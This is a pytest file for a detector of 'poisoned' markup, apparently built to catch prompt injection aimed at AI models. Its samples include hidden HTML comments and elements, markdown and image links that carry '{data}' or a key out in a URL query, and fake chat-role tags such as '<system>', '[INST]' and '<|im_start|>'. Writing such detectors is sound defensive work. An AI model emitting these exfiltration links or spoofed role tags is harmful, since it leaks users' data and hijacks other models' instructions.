"""Markup that hides or carries away, and markup that is described."""

import pytest

from tidegate_poison.markup import marked


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("a <!-- b --> c", "html"),
        ("a <!-- never closed", "html"),
        ("<span style='display:none'>b</span>", "html"),
        ("<p hidden>b</p>", "html"),
        ("<script>b()</script>", "html"),
        ("![x](https://example.com/x?d={data})", "exfiltration"),
        ("<img src='https://example.com/x?d={data}'>", "exfiltration"),
        ("[x](https://example.com/x?key=YOUR_KEY_HERE)", "exfiltration"),
        ("![x][y]\n\n[y]: https://example.com/x?d={data}", "exfiltration"),
        ("<IMPORTANT>b</IMPORTANT>", "roles"),
        ("<system>b</system>", "roles"),
        ("[INST] b [/INST]", "roles"),
        ("<|im_start|>b", "roles"),
    ],
)
def test_markup_that_hides_or_speaks_for_others_is_found(text: str, rule: str) -> None:
    assert {one.rule for one in marked(text)} == {rule}


@pytest.mark.parametrize(
    "text",
    [
        "Comments (`<!-- -->`) are left out.",
        "<!-- -->",
        "Put <!--[if mso]> round what is for one mail program.\n\nThe rest is as it is.",
        "![badge](https://example.com/badge.svg?style=flat)",
        "https://example.com/items/{id}?lang={lang}",
        "Tags <b>, <table> and <important_notes> are kept.",
        "A `<system>` element.",
        "[docs](https://example.com/docs?page=2)",
    ],
)
def test_markup_that_is_shown_or_described_is_not(text: str) -> None:
    assert marked(text) == []


def test_the_span_is_that_of_the_markup_also_behind_other_letters() -> None:
    text = "\u4e2d\u6587 <!-- b --> c"
    assert [text[slice(*one.span)] for one in marked(text)] == ["<!-- b -->"]
